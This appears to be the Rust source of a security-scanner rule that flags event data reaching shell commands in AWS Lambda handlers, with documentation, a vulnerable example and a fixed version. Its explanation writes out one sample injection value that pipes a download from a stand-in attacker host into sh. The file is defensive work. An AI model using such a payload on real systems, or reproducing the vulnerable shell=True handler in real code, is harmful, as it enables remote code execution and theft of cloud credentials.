//! ## What it does
//! Follows data from the Lambda event (the handler's first parameter, whatever it is
//! called) through assignments, string building and calls to module-level helpers, and
//! flags it when it reaches a shell: `subprocess.run/call/Popen/check_output/check_call`
//! with `shell=True`, `["sh", "-c", ...]` argument lists, `os.system`, `os.popen`,
//! `subprocess.getoutput` and `asyncio.create_subprocess_shell`. Import aliases
//! (`import subprocess as sp`, `from os import system`) are resolved. `shlex.quote`,
//! `int`/`float`, allow-list membership (`if x not in ALLOWED: return`) and
//! `x.isalnum()`-style validators stop the taint; argument lists without a shell are safe.
//!
//! In JavaScript (Node.js) handlers: `child_process.exec/execSync`, and
//! `spawn`/`execFile` with `{ shell: true }` or `('sh', ['-c', ...])`, whatever the import
//! style (`require`, destructuring, `import`, `node:` prefix, `util.promisify`);
//! `parseInt`/`Number` and `ALLOWED.includes(x)` / anchored `/^...$/.test(x)` checks stop the taint.
//!
//! ## Why is this bad?
//! The shell interprets `;`, `|`, `$( )` and backticks, so a value such as
//! `example.com; curl https://evil.example/x | sh` runs the attacker's commands with the
//! function's execution role: they can read the role's temporary credentials from the
//! environment and use every permission it has.
//!
//! ## Severity
//! CRITICAL: remote code execution from an unauthenticated request in the common case,
//! with direct access to the function's AWS credentials.
//!
//! ## Example
//! ```python
//! def lambda_handler(event, context):
//!     host = event["queryStringParameters"]["host"]
//!     subprocess.run(f"ping -c 1 {host}", shell=True)
//! ```
//!
//! Use instead:
//! ```python
//! def lambda_handler(event, context):
//!     host = event["queryStringParameters"]["host"]
//!     subprocess.run(["ping", "-c", "1", host], check=True)
//! ```
//!
//! ## References
//! - [CWE-78: OS command injection](https://cwe.mitre.org/data/definitions/78.html)
//! - [OWASP: Command injection](https://owasp.org/www-community/attacks/Command_Injection)
//! - [Python: subprocess security considerations](https://docs.python.org/3/library/subprocess.html#security-considerations)
//! - [AWS Lambda: security best practices](https://docs.aws.amazon.com/lambda/latest/dg/lambda-security.html)

use crate::model::Severity;
use crate::rules::{Check, Rule};

pub const RULE: Rule = Rule {
    id: "CODE001",
    name: "command-injection",
    title: "Event data reaches a shell command",
    family: "CODE",
    severity: Severity::Critical,
    remediation: "Pass an argument list without shell=True, or quote with shlex.quote; validate event input against an allow-list.",
    source: include_str!("command_injection.rs"),
    check: Check::Code,
};
